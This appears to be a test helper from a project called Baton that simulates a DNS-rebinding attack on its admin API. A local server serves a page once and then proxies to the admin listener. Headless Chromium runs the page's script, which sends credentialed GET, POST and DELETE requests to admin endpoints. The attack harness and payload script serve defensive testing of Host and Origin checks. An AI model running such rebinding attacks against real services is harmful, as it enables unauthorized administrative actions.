"""A web page that attacks the admin API from a real browser which has a session.

The page is at `http://evil.test:<port>`. Once it is loaded, the name leads to Baton's admin
listener, which is what DNS rebinding does: the browser takes Baton's answers for those of the page's
own origin and sends the session along, so that nothing but Baton's look at `Host` and `Origin`
stands between.
"""

import json
import socket
import subprocess
import tempfile
import threading
from html import unescape

NAME = "evil.test"
PAGE = """<!doctype html><title>attack</title><body><pre id=out>running</pre><script>
(async () => {
  document.cookie = SESSION + '; path=/';
  const own = OWN, others = OTHERS, results = [];
  const json = {'content-type': 'application/json'};
  for (let n = 0; n < COUNT; n++) {
    // Each way at each path of the page's own origin, then at every other name of Baton's.
    const target = n < 20 ? own[n % own.length] : others[n % others.length];
    const options = [
      {},
      {mode: 'no-cors'},
      {method: 'POST', mode: 'no-cors', body: BODY, headers: {'content-type': 'text/plain'}},
      {method: 'POST', body: BODY, headers: json},
      {method: 'DELETE'},
    ][n % 5];
    try {
      const answer = await fetch(target, {credentials: 'include', ...options});
      const text = await answer.text();
      results.push(answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + text.slice(0, 60));
    } catch (error) { results.push('blocked'); }
  }
  document.getElementById('out').textContent = 'done ' + JSON.stringify(results);
})();
</script>"""
MADE = {"name": "Made by an attacker", "template": "blank"}


def attack(baton, attempts):
    """Lets chromium open the page; what each of its requests got."""
    rebound = Rebound(baton.admin)
    # The page's own name, and what else leads here: the browser has the session for all of them.
    own = [f"/api/v1/{path}" for path in ("workflows", "people", "settings", "session")]
    others = [
        f"http://{host}:{baton.admin}{path}"
        for host in ("127.0.0.1", "localhost", NAME)
        for path in own
    ]
    page = PAGE.replace("OWN", json.dumps(own)).replace("OTHERS", json.dumps(others))
    page = page.replace("COUNT", str(attempts)).replace("SESSION", json.dumps(baton.cookie))
    rebound.page = page.replace("BODY", json.dumps(json.dumps(MADE))).encode()
    try:
        shown = opened(f"http://{NAME}:{rebound.port}/")
    finally:
        rebound.close()
    if "done [" not in shown:
        raise AssertionError(f"the page did not come to its end: {shown[-500:]}")
    return json.loads(unescape(shown.split("done ", 1)[1].split("</pre>")[0]))


def opened(address):
    """What chromium shows of a page, when its script has ended."""
    with tempfile.TemporaryDirectory() as profile:
        return subprocess.run(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"]
            + ["--virtual-time-budget=600000", f"--user-data-dir={profile}"]
            + [f"--host-resolver-rules=MAP {NAME} 127.0.0.1", address],
            capture_output=True,
            timeout=600,
        ).stdout.decode()


class Rebound:
    """Where the name leads: to the attacker's page once, then to Baton, byte for byte."""

    def __init__(self, admin):
        self.admin = admin
        self.page = b""
        self.served = False
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        """Takes every connection in a thread of its own."""
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()

    def serve(self, connection):
        """The page to who asks for it first, Baton to everybody after that."""
        with connection:
            begun = connection.recv(65536)
            if not self.served and begun.startswith(b"GET / "):
                self.served = True
                head = f"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {len(self.page)}"
                connection.sendall(f"{head}\r\nconnection: close\r\n\r\n".encode() + self.page)
                return
            with socket.create_connection(("127.0.0.1", self.admin)) as baton:
                baton.sendall(begun)
                back = threading.Thread(target=pour, args=(baton, connection), daemon=True)
                back.start()
                pour(connection, baton)
                back.join(10)

    def close(self):
        """Takes no more connections."""
        self.listener.close()


def pour(source, target):
    """Everything that comes from one side goes to the other."""
    try:
        while read := source.recv(65536):
            target.sendall(read)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass
